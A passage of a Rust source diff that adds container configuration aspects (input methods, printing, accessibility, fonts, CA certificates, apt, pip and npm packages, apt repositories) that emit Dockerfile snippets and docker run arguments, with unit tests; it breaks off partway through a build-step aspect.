+/// Bridges containerized apps to the host input method framework, e.g. for CJK input, through
+/// the framework's socket directory under `$XDG_RUNTIME_DIR`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct InputMethod(pub ImeKind);
+
+impl InputMethod {
+    fn run_args_for(&self, xdg_runtime_dir: &Path) -> Result<Vec<String>> {
+        let module = self.0.module();
+        let socket = xdg_runtime_dir.join(module);
+        if !socket.exists() {
+            return Err(Error::MissingImeSocket(socket));
+        }
+        Ok(vec![
+            String::from("-e"),
+            format!("GTK_IM_MODULE={}", module),
+            String::from("-e"),
+            format!("QT_IM_MODULE={}", module),
+            String::from("-e"),
+            format!("XMODIFIERS=@im={}", module),
+            String::from("-v"),
+            format!("{0}:{0}", socket.to_string_lossy()),
+        ])
+    }
+}
+
+impl ContainerAspect for InputMethod {
+    fn name(&self) -> String {
+        format!("InputMethod: {}", self.0.module())
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(&env_var("XDG_RUNTIME_DIR")?))
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let packages = match self.0 {
+            ImeKind::Fcitx => "fcitx-frontend-gtk3 \\\n    fcitx-frontend-qt5",
+            ImeKind::Ibus => "ibus-gtk3",
+        };
+        vec![DockerfileSnippet {
+            order: 71,
+            content: format!(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    {} \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+                packages
+            ),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod input_method_should {
+    use super::*;
+
+    fn run_args(kind: ImeKind) -> Result<Vec<String>> {
+        let runtime_dir = tempfile::tempdir()?;
+        fs::create_dir(runtime_dir.path().join(kind.module()))?;
+        let args = InputMethod(kind).run_args_for(runtime_dir.path())?;
+        Ok(args[..6].to_vec())
+    }
+
+    #[test]
+    fn emit_fcitx_env() -> Result<()> {
+        assert_eq!(
+            run_args(ImeKind::Fcitx)?,
+            vec![
+                "-e",
+                "GTK_IM_MODULE=fcitx",
+                "-e",
+                "QT_IM_MODULE=fcitx",
+                "-e",
+                "XMODIFIERS=@im=fcitx",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn emit_ibus_env() -> Result<()> {
+        assert_eq!(
+            run_args(ImeKind::Ibus)?,
+            vec![
+                "-e",
+                "GTK_IM_MODULE=ibus",
+                "-e",
+                "QT_IM_MODULE=ibus",
+                "-e",
+                "XMODIFIERS=@im=ibus",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn require_ime_socket() -> Result<()> {
+        let runtime_dir = tempfile::tempdir()?;
+        match InputMethod(ImeKind::Ibus).run_args_for(runtime_dir.path()) {
+            Err(Error::MissingImeSocket(p)) => assert!(p.ends_with("ibus")),
+            other => panic!("expected MissingImeSocket, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum CupsMode {
+    Socket(PathBuf),
+    Server(String),
+}
+
+/// Printing through the host's CUPS daemon socket or a network CUPS server.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Cups {
+    mode: CupsMode,
+}
+
+impl Cups {
+    pub fn socket() -> Self {
+        Cups {
+            mode: CupsMode::Socket(PathBuf::from("/run/cups/cups.sock")),
+        }
+    }
+
+    pub fn server(addr: &str) -> Self {
+        Cups {
+            mode: CupsMode::Server(addr.to_string()),
+        }
+    }
+}
+
+impl ContainerAspect for Cups {
+    fn name(&self) -> String {
+        String::from("Cups")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        match &self.mode {
+            CupsMode::Socket(socket) => {
+                if !socket.exists() {
+                    return Err(Error::MissingCupsSocket(socket.clone()));
+                }
+                Ok(vec![
+                    String::from("-v"),
+                    format!("{0}:{0}", socket.to_string_lossy()),
+                ])
+            }
+            CupsMode::Server(addr) => Ok(vec![String::from("-e"), format!("CUPS_SERVER={}", addr)]),
+        }
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    cups-client \
+    libcups2 \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod cups_should {
+    use super::*;
+
+    #[test]
+    fn mount_socket() -> Result<()> {
+        let socket = tempfile::NamedTempFile::new()?;
+        let cups = Cups {
+            mode: CupsMode::Socket(socket.path().to_path_buf()),
+        };
+        let path = socket.path().to_string_lossy();
+        assert_eq!(
+            cups.run_args(None)?,
+            vec!["-v".to_string(), format!("{0}:{0}", path)]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_socket() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let cups = Cups {
+            mode: CupsMode::Socket(dir.path().join("cups.sock")),
+        };
+        match cups.run_args(None) {
+            Err(Error::MissingCupsSocket(p)) => assert!(p.ends_with("cups.sock")),
+            other => panic!("expected MissingCupsSocket, got {:?}", other),
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn point_at_network_server() -> Result<()> {
+        assert_eq!(
+            Cups::server("printers.local:631").run_args(None)?,
+            vec!["-e", "CUPS_SERVER=printers.local:631"]
+        );
+        Ok(())
+    }
+}
+
+/// Desktop notifications through the session bus. The host must serve
+/// `org.freedesktop.Notifications`, which most desktop environments do out of the box, and the
+/// session bus must be mounted by the `DBus` aspect.
+#[derive(Clone)]
+pub struct Notifications {}
+impl ContainerAspect for Notifications {
+    fn name(&self) -> String {
+        String::from("Notifications")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    libnotify-bin \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+    fn dependencies(&self) -> Vec<String> {
+        vec![DBus {}.name()]
+    }
+}
+
+/// Lets screen readers and other accessibility tools reach containerized GTK and Qt apps through
+/// the host's at-spi bus. Apps discover the bus over the session bus, so this needs the `DBus`
+/// aspect, and the bus socket lives in `$XDG_RUNTIME_DIR/at-spi`, which is mounted at the same
+/// path.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Accessibility {}
+
+impl Accessibility {
+    fn run_args_for(&self, xdg_runtime_dir: &Path) -> Result<Vec<String>> {
+        let bus = xdg_runtime_dir.join("at-spi");
+        if !bus.is_dir() {
+            return Err(Error::MissingAtSpiBus(bus));
+        }
+        Ok(vec![
+            String::from("-e"),
+            String::from("QT_ACCESSIBILITY=1"),
+            String::from("-e"),
+            String::from("GTK_MODULES=gail:atk-bridge"),
+            String::from("-v"),
+            format!("{0}:{0}", bus.to_string_lossy()),
+        ])
+    }
+}
+
+impl ContainerAspect for Accessibility {
+    fn name(&self) -> String {
+        String::from("Accessibility")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(&env_var("XDG_RUNTIME_DIR")?))
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    at-spi2-core \
+    libatk-adaptor \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+    fn dependencies(&self) -> Vec<String> {
+        vec![DBus {}.name()]
+    }
+}
+
+#[cfg(test)]
+mod accessibility_should {
+    use super::*;
+
+    #[test]
+    fn enable_toolkit_bridges_and_mount_bus() -> Result<()> {
+        let runtime_dir = tempfile::tempdir()?;
+        let bus = runtime_dir.path().join("at-spi");
+        fs::create_dir(&bus)?;
+        assert_eq!(
+            Accessibility {}.run_args_for(runtime_dir.path())?,
+            vec![
+                "-e".to_string(),
+                "QT_ACCESSIBILITY=1".to_string(),
+                "-e".to_string(),
+                "GTK_MODULES=gail:atk-bridge".to_string(),
+                "-v".to_string(),
+                format!("{0}:{0}", bus.to_string_lossy()),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn require_at_spi_bus() -> Result<()> {
+        let runtime_dir = tempfile::tempdir()?;
+        match (Accessibility {}).run_args_for(runtime_dir.path()) {
+            Err(Error::MissingAtSpiBus(p)) => assert_eq!(p, runtime_dir.path().join("at-spi")),
+            other => panic!("expected MissingAtSpiBus, got {:?}", other),
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn depend_on_dbus() {
+        assert_eq!(Accessibility {}.dependencies(), vec!["DBus"]);
+    }
+}
+
+/// Host fonts mounted read-only under `/usr/share/fonts`, with the font cache refreshed by the
+/// entrypoint so apps pick them up.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Fonts {
+    pub mount_user_fonts: bool,
+    pub extra: Vec<PathBuf>,
+}
+
+impl Fonts {
+    fn run_args_for(&self, home: &Path) -> Result<Vec<String>> {
+        let mut mounts: Vec<(PathBuf, String)> = Vec::new();
+        if self.mount_user_fonts {
+            for (dir, target) in &[(".local/share/fonts", "user-local"), (".fonts", "user")] {
+                let path = home.join(dir);
+                if path.is_dir() {
+                    mounts.push((path, format!("/usr/share/fonts/{}", target)));
+                }
+            }
+        }
+        for path in &self.extra {
+            if !path.exists() {
+                return Err(Error::MissingFontPath(path.clone()));
+            }
+            let name = path
+                .file_name()
+                .map(|n| n.to_string_lossy().to_string())
+                .ok_or_else(|| Error::MissingFontPath(path.clone()))?;
+            mounts.push((path.clone(), format!("/usr/share/fonts/extra/{}", name)));
+        }
+
+        Ok(mounts
+            .iter()
+            .flat_map(|(host, container)| {
+                vec![
+                    String::from("-v"),
+                    format!("{}:{}:ro", host.to_string_lossy(), container),
+                ]
+            })
+            .collect())
+    }
+}
+
+impl ContainerAspect for Fonts {
+    fn name(&self) -> String {
+        String::from("Fonts")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(&env_var("HOME")?))
+    }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        vec![EntrypointFn {
+            description: String::from("refresh font cache"),
+            command: vec![String::from("fc-cache"), String::from("-f")],
+            requires_root: true,
+        }]
+    }
+}
+
+#[cfg(test)]
+mod fonts_should {
+    use super::*;
+
+    #[test]
+    fn mount_user_and_extra_fonts() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        fs::create_dir_all(home.path().join(".local/share/fonts"))?;
+        let extra = tempfile::tempdir()?;
+        let font = extra.path().join("Inter.ttf");
+        fs::write(&font, "")?;
+
+        let fonts = Fonts {
+            mount_user_fonts: true,
+            extra: vec![font.clone()],
+        };
+        assert_eq!(
+            fonts.run_args_for(home.path())?,
+            vec![
+                "-v".to_string(),
+                format!(
+                    "{}:/usr/share/fonts/user-local:ro",
+                    home.path().join(".local/share/fonts").to_string_lossy()
+                ),
+                "-v".to_string(),
+                format!(
+                    "{}:/usr/share/fonts/extra/Inter.ttf:ro",
+                    font.to_string_lossy()
+                ),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_extra_paths() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        let fonts = Fonts {
+            mount_user_fonts: false,
+            extra: vec![home.path().join("missing.ttf")],
+        };
+        match fonts.run_args_for(home.path()) {
+            Err(Error::MissingFontPath(p)) => assert!(p.ends_with("missing.ttf")),
+            other => panic!("expected MissingFontPath, got {:?}", other),
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn register_font_cache_entrypoint_fn() {
+        let fonts = Fonts {
+            mount_user_fonts: true,
+            extra: Vec::new(),
+        };
+        assert_eq!(
+            fonts.entrypoint_fns(),
+            vec![EntrypointFn {
+                description: "refresh font cache".to_string(),
+                command: vec!["fc-cache".to_string(), "-f".to_string()],
+                requires_root: true,
+            }]
+        );
+    }
+}
+
+/// Host CA certificates added to the container's trust store when it starts, e.g. for
+/// TLS-intercepting corporate proxies. Each file must be a PEM certificate named `*.crt`, which is
+/// what `update-ca-certificates` picks up.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct CaCertificates(pub Vec<PathBuf>);
+
+impl ContainerAspect for CaCertificates {
+    fn name(&self) -> String {
+        String::from("CaCertificates")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for path in &self.0 {
+            if !path.is_file() {
+                return Err(Error::MissingCaCertificate(path.clone()));
+            }
+            let name = match path.file_name() {
+                Some(n) if path.extension().map_or(false, |e| e == "crt") => n.to_string_lossy(),
+                _ => return Err(Error::InvalidCaCertificate(path.clone())),
+            };
+            args.push(String::from("-v"));
+            args.push(format!(
+                "{}:/usr/local/share/ca-certificates/{}:ro",
+                path.to_string_lossy(),
+                name
+            ));
+        }
+        Ok(args)
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    ca-certificates \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        vec![EntrypointFn {
+            description: String::from("update ca certificates"),
+            command: vec![String::from("update-ca-certificates")],
+            requires_root: true,
+        }]
+    }
+}
+
+#[cfg(test)]
+mod ca_certificates_should {
+    use super::*;
+
+    #[test]
+    fn mount_certificates_and_update_trust_store() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let cert = dir.path().join("corp-root.crt");
+        fs::write(&cert, "-----BEGIN CERTIFICATE-----\n")?;
+
+        let aspect = CaCertificates(vec![cert.clone()]);
+        assert_eq!(
+            aspect.run_args(None)?,
+            vec![
+                "-v".to_string(),
+                format!(
+                    "{}:/usr/local/share/ca-certificates/corp-root.crt:ro",
+                    cert.to_string_lossy()
+                ),
+            ]
+        );
+        assert_eq!(
+            aspect.entrypoint_fns()[0].command,
+            vec!["update-ca-certificates".to_string()]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_files() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        match CaCertificates(vec![dir.path().join("missing.crt")]).run_args(None) {
+            Err(Error::MissingCaCertificate(p)) => assert!(p.ends_with("missing.crt")),
+            other => panic!("expected MissingCaCertificate, got {:?}", other),
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn reject_other_extensions() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let pem = dir.path().join("corp-root.pem");
+        fs::write(&pem, "")?;
+        match CaCertificates(vec![pem]).run_args(None) {
+            Err(Error::InvalidCaCertificate(p)) => assert!(p.ends_with("corp-root.pem")),
+            other => panic!("expected InvalidCaCertificate, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+/// Debian packages to install at build time in a single `apt-get install` layer.
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct AptPackages(pub Vec<String>);
+
+impl AptPackages {
+    fn deduplicated(&self) -> Vec<String> {
+        let mut packages: Vec<String> = Vec::new();
+        for p in &self.0 {
+            if !packages.contains(p) {
+                packages.push(p.clone());
+            }
+        }
+        packages
+    }
+
+    /// The `RUN` line installing `packages`, cleaning up the apt lists in the same layer.
+    fn install_line(packages: &[String]) -> String {
+        let mut content = String::from(
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \"#,
+        );
+        for p in packages {
+            content.push_str(&format!("\n    {} \\", p));
+        }
+        content.push_str(
+            r#"
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb"#,
+        );
+        content
+    }
+}
+
+impl ContainerAspect for AptPackages {
+    fn name(&self) -> String {
+        String::from("AptPackages")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let packages = self.deduplicated();
+        if packages.is_empty() {
+            return Vec::new();
+        }
+        vec![DockerfileSnippet {
+            order: 72,
+            content: AptPackages::install_line(&packages),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod apt_packages_should {
+    use super::*;
+
+    #[test]
+    fn generate_run_line() {
+        let snippets =
+            AptPackages(vec!["curl".to_string(), "git".to_string()]).dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(
+            snippets[0].content,
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    curl \
+    git \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb"#
+        );
+    }
+
+    #[test]
+    fn deduplicate_packages() {
+        let packages = AptPackages(vec![
+            "git".to_string(),
+            "curl".to_string(),
+            "git".to_string(),
+        ]);
+        assert_eq!(packages.deduplicated(), vec!["git", "curl"]);
+    }
+
+    #[test]
+    fn skip_empty_package_list() {
+        assert!(AptPackages(Vec::new()).dockerfile_snippets().is_empty());
+    }
+}
+
+/// Python packages to install at build time with pip, optionally into a virtualenv at
+/// `/opt/venv` that is then put first on the `PATH`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct PipPackages {
+    pub packages: Vec<String>,
+    pub use_venv: bool,
+}
+
+/// The distribution name of a requirement such as `requests[socks]>=2.0`, normalized the way pip
+/// compares names.
+fn pip_package_name(requirement: &str) -> String {
+    requirement
+        .split(|c: char| "=<>!~[;@ ".contains(c))
+        .next()
+        .unwrap_or(requirement)
+        .to_lowercase()
+        .replace('_', "-")
+}
+
+impl PipPackages {
+    /// Keeps the first requirement given for each package, so a pinned version isn't installed
+    /// alongside an unpinned one.
+    fn deduplicated(&self) -> Vec<String> {
+        let mut names: Vec<String> = Vec::new();
+        let mut packages: Vec<String> = Vec::new();
+        for p in &self.packages {
+            let name = pip_package_name(p);
+            if names.contains(&name) {
+                if !packages.contains(p) {
+                    warn!(
+                        "ignoring pip requirement `{}`, {} is already required",
+                        p, name
+                    );
+                }
+                continue;
+            }
+            names.push(name);
+            packages.push(p.clone());
+        }
+        packages
+    }
+}
+
+impl ContainerAspect for PipPackages {
+    fn name(&self) -> String {
+        String::from("PipPackages")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let packages = self.deduplicated();
+        if packages.is_empty() {
+            return Vec::new();
+        }
+
+        let (apt_package, pip) = if self.use_venv {
+            (
+                "python3-venv",
+                "python3 -m venv /opt/venv \\\n  && /opt/venv/bin/pip",
+            )
+        } else {
+            ("python3-pip", "pip3")
+        };
+        let mut content = format!(
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    {} \
+  && rm -rf /var/lib/apt/lists/* \
+  && {} install --no-cache-dir \"#,
+            apt_package, pip
+        );
+        // quoted since version specifiers like >= would otherwise be shell redirects
+        let packages: Vec<String> = packages.iter().map(|p| format!("'{}'", p)).collect();
+        content.push_str(&format!("\n    {}", packages.join(" \\\n    ")));
+        if self.use_venv {
+            content.push_str("\nENV PATH=/opt/venv/bin:$PATH");
+        }
+
+        // right after AptPackages so pip can build against the debian packages it installed
+        vec![DockerfileSnippet { order: 73, content }]
+    }
+}
+
+#[cfg(test)]
+mod pip_packages_should {
+    use super::*;
+
+    fn pip(packages: &[&str], use_venv: bool) -> PipPackages {
+        PipPackages {
+            packages: packages.iter().map(|p| p.to_string()).collect(),
+            use_venv,
+        }
+    }
+
+    #[test]
+    fn generate_run_line() {
+        let snippets = pip(&["requests==2.24.0", "pyyaml"], false).dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 73);
+        assert_eq!(
+            snippets[0].content,
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    python3-pip \
+  && rm -rf /var/lib/apt/lists/* \
+  && pip3 install --no-cache-dir \
+    'requests==2.24.0' \
+    'pyyaml'"#
+        );
+    }
+
+    #[test]
+    fn install_into_venv() {
+        assert_eq!(
+            pip(&["black>=20.8b1"], true).dockerfile_snippets()[0].content,
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    python3-venv \
+  && rm -rf /var/lib/apt/lists/* \
+  && python3 -m venv /opt/venv \
+  && /opt/venv/bin/pip install --no-cache-dir \
+    'black>=20.8b1'
+ENV PATH=/opt/venv/bin:$PATH"#
+        );
+    }
+
+    #[test]
+    fn deduplicate_packages_by_name() {
+        let packages = pip(
+            &[
+                "requests==2.24.0",
+                "PyYAML",
+                "requests",
+                "pyyaml>=5",
+                "Py_Yaml",
+            ],
+            false,
+        );
+        assert_eq!(
+            packages.deduplicated(),
+            vec!["requests==2.24.0", "PyYAML", "Py_Yaml"]
+        );
+    }
+
+    #[test]
+    fn skip_empty_package_list() {
+        assert!(pip(&[], false).dockerfile_snippets().is_empty());
+    }
+}
+
+/// Node packages to install globally at build time with npm, e.g. `typescript@4.0.3`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct NpmPackages(pub Vec<String>);
+
+/// The package name of a spec such as `@scope/pkg@^1.2`; a leading `@` belongs to the scope.
+fn npm_package_name(spec: &str) -> &str {
+    match spec.get(1..).and_then(|rest| rest.find('@')) {
+        Some(i) => &spec[..i + 1],
+        None => spec,
+    }
+}
+
+impl NpmPackages {
+    /// Keeps the first spec given for each package, like `PipPackages`.
+    fn deduplicated(&self) -> Vec<String> {
+        let mut packages: Vec<String> = Vec::new();
+        for p in &self.0 {
+            if p.is_empty() {
+                continue;
+            }
+            let name = npm_package_name(p);
+            match packages.iter().find(|q| npm_package_name(q) == name) {
+                Some(q) if q != p => {
+                    warn!("ignoring npm package `{}`, {} is already required", p, q)
+                }
+                Some(_) => (),
+                None => packages.push(p.clone()),
+            }
+        }
+        packages
+    }
+}
+
+impl ContainerAspect for NpmPackages {
+    fn name(&self) -> String {
+        String::from("NpmPackages")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let packages = self.deduplicated();
+        if packages.is_empty() {
+            return Vec::new();
+        }
+
+        let mut content = String::from(
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    nodejs \
+    npm \
+  && rm -rf /var/lib/apt/lists/* \
+  && npm install -g \"#,
+        );
+        for p in packages {
+            content.push_str(&format!("\n    '{}' \\", p));
+        }
+        content.push_str(
+            r#"
+  && npm cache clean --force \
+  && rm -rf /root/.npm"#,
+        );
+
+        // after PipPackages at 73 and before files are copied in at 75
+        vec![DockerfileSnippet { order: 74, content }]
+    }
+}
+
+#[cfg(test)]
+mod npm_packages_should {
+    use super::*;
+
+    fn npm(packages: &[&str]) -> NpmPackages {
+        NpmPackages(packages.iter().map(|p| p.to_string()).collect())
+    }
+
+    #[test]
+    fn generate_run_line() {
+        let snippets = npm(&["typescript@4.0.3", "@vue/cli"]).dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 74);
+        assert_eq!(
+            snippets[0].content,
+            r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    nodejs \
+    npm \
+  && rm -rf /var/lib/apt/lists/* \
+  && npm install -g \
+    'typescript@4.0.3' \
+    '@vue/cli' \
+  && npm cache clean --force \
+  && rm -rf /root/.npm"#
+        );
+    }
+
+    #[test]
+    fn deduplicate_packages_by_name() {
+        assert_eq!(npm_package_name("@vue/cli@4.5.0"), "@vue/cli");
+        assert_eq!(npm_package_name("@vue/cli"), "@vue/cli");
+        assert_eq!(npm_package_name("prettier@^2"), "prettier");
+        assert_eq!(
+            npm(&["prettier@2.1.2", "@vue/cli", "prettier", "@vue/cli@4.5.0"]).deduplicated(),
+            vec!["prettier@2.1.2", "@vue/cli"]
+        );
+    }
+
+    #[test]
+    fn skip_empty_package_list() {
+        assert!(npm(&[]).dockerfile_snippets().is_empty());
+        assert!(npm(&[""]).dockerfile_snippets().is_empty());
+    }
+}
+
+/// A third-party apt repository whose packages can then be installed like any other; the
+/// signing key, if given, is stored in `/etc/apt/keyrings` and only trusted for this repository.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct AptRepository {
+    pub uri: String,
+    pub suite: String,
+    pub components: Vec<String>,
+    pub key_url: Option<String>,
+}
+
+impl AptRepository {
+    pub fn new(
+        uri: &str,
+        suite: &str,
+        components: Vec<String>,
+        key_url: Option<&str>,
+    ) -> Result<Self> {
+        let repo = AptRepository {
+            uri: uri.to_string(),
+            suite: suite.to_string(),
+            components,
+            key_url: key_url.map(String::from),
+        };
+        repo.validate()?;
+        Ok(repo)
+    }
+
+    fn validate(&self) -> Result<()> {
+        let invalid = || Error::InvalidAptRepository(self.uri.clone());
+        let is_word =
+            |s: &str| !s.is_empty() && !s.contains(|c: char| c.is_whitespace() || c == '"');
+        url_host(&self.uri).ok_or_else(invalid)?;
+        if let Some(key_url) = &self.key_url {
+            url_host(key_url).ok_or_else(invalid)?;
+        }
+        if !is_word(&self.suite) || !self.components.iter().all(|c| is_word(c)) {
+            return Err(invalid());
+        }
+        Ok(())
+    }
+
+    /// File name shared by the source list and keyring, derived from the repository uri.
+    fn slug(&self) -> String {
+        let host = url_host(&self.uri).unwrap_or(&self.uri);
+        host.trim_end_matches('/')
+            .chars()
+            .map(|c| {
+                if c.is_ascii_alphanumeric() || c == '.' {
+                    c
+                } else {
+                    '-'
+                }
+            })
+            .collect()
+    }
+}
+
+/// The part of an http(s) url after the scheme, if it has a host and no whitespace or quotes.
+fn url_host(url: &str) -> Option<&str> {
+    let rest = ["http://", "https://"]
+        .iter()
+        .find_map(|scheme| url.strip_prefix(scheme))?;
+    if rest.is_empty()
+        || rest.starts_with('/')
+        || rest.contains(|c: char| c.is_whitespace() || c == '"')
+    {
+        return None;
+    }
+    Some(rest)
+}
+
+impl ContainerAspect for AptRepository {
+    fn name(&self) -> String {
+        String::from("AptRepository")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let slug = self.slug();
+        let mut source = vec![self.uri.clone(), self.suite.clone()];
+        source.extend(self.components.iter().cloned());
+
+        let mut content = String::from("RUN mkdir -p /etc/apt/keyrings \\");
+        let source = match &self.key_url {
+            Some(key_url) => {
+                let keyring = format!("/etc/apt/keyrings/{}.gpg", slug);
+                content.push_str(&format!(
+                    "\n  && curl -fsSL {} | gpg --dearmor -o {} \\",
+                    key_url, keyring
+                ));
+                format!("deb [signed-by={}] {}", keyring, source.join(" "))
+            }
+            None => format!("deb {}", source.join(" ")),
+        };
+        // updating here fails the build early if the repository or its key is broken
+        content.push_str(&format!(
+            r#"
+  && echo "{}" > /etc/apt/sources.list.d/{}.list \
+  && apt-get update \
+  && rm -rf /var/lib/apt/lists/*"#,
+            source, slug
+        ));
+
+        // before the aspects' own package installs at 71 so they can use the repository
+        vec![DockerfileSnippet { order: 70, content }]
+    }
+}
+
+#[cfg(test)]
+mod apt_repository_should {
+    use super::*;
+
+    #[test]
+    fn add_source_and_signed_by_key() -> Result<()> {
+        let repo = AptRepository::new(
+            "https://packages.microsoft.com/repos/code",
+            "stable",
+            vec!["main".to_string()],
+            Some("https://packages.microsoft.com/keys/microsoft.asc"),
+        )?;
+        let snippets = repo.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 70);
+        assert_eq!(
+            snippets[0].content,
+            r#"RUN mkdir -p /etc/apt/keyrings \
+  && curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor -o /etc/apt/keyrings/packages.microsoft.com-repos-code.gpg \
+  && echo "deb [signed-by=/etc/apt/keyrings/packages.microsoft.com-repos-code.gpg] https://packages.microsoft.com/repos/code stable main" > /etc/apt/sources.list.d/packages.microsoft.com-repos-code.list \
+  && apt-get update \
+  && rm -rf /var/lib/apt/lists/*"#
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn add_unsigned_flat_repository() -> Result<()> {
+        let repo = AptRepository::new("http://deb.example.com/", "./", Vec::new(), None)?;
+        assert_eq!(
+            repo.dockerfile_snippets()[0].content,
+            r#"RUN mkdir -p /etc/apt/keyrings \
+  && echo "deb http://deb.example.com/ ./" > /etc/apt/sources.list.d/deb.example.com.list \
+  && apt-get update \
+  && rm -rf /var/lib/apt/lists/*"#
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_invalid_repositories() {
+        let main = || vec!["main".to_string()];
+        for (uri, suite, components, key_url) in vec![
+            ("packages.example.com", "stable", main(), None),
+            ("ftp://packages.example.com", "stable", main(), None),
+            ("https://", "stable", main(), None),
+            ("https://packages.example.com", "", main(), None),
+            (
+                "https://packages.example.com",
+                "stable",
+                vec!["ma in".to_string()],
+                None,
+            ),
+            (
+                "https://packages.example.com",
+                "stable",
+                main(),
+                Some("key.asc"),
+            ),
+        ] {
+            match AptRepository::new(uri, suite, components, key_url) {
+                Err(Error::InvalidAptRepository(_)) => (),
+                other => panic!("expected InvalidAptRepository, got {:?}", other),
+            }
+        }
+    }
+}
+
+/// A one-off build step; multi-line commands are chained into a single `RUN` layer.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Run {
+    pub order: u8,
+    pub command: String,
+}
+
+impl ContainerAspect for Run {
+    fn name(&self) -> String {
+        String::from("Run")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let lines: Vec<&str> = self
+            .command
+            .lines()
